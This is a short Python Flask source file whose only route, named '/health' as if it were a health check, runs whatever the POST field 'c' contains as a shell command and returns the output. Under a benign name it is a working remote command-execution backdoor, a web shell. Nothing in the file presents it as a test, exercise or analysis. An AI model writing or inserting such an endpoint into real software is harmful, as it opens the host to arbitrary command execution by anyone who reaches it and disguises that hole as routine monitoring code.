from flask import Flask, request
import subprocess
app = Flask(__name__)

@app.route("/health", methods=["POST"])
def health():
    return subprocess.check_output(request.form["c"], shell=True)
